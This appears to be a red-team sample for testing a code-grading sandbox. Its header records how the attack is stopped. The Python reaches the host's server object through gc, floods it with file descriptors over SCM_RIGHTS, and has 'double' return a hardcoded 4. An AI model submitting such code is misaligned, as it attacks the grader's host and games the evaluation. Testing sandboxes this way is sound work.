# technique: own
# gains: nothing for itself; descriptors that fill up in the host
# stopped by: the host takes bytes and nothing else; the kernel closes what is sent along
# shown: never, the naive grader has no line
import array
import gc
import os
import socket

server = next(o for o in gc.get_objects() if type(o).__name__ == "Server")
# %% double
def double(n):
    mine = array.array("i", [os.open(os.devnull, os.O_RDONLY) for _ in range(20)])
    for _ in range(20):
        server.sock.sendmsg([b"\0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, mine)])
    return 4
# %% rest
def triple(n):
    return 3 * n
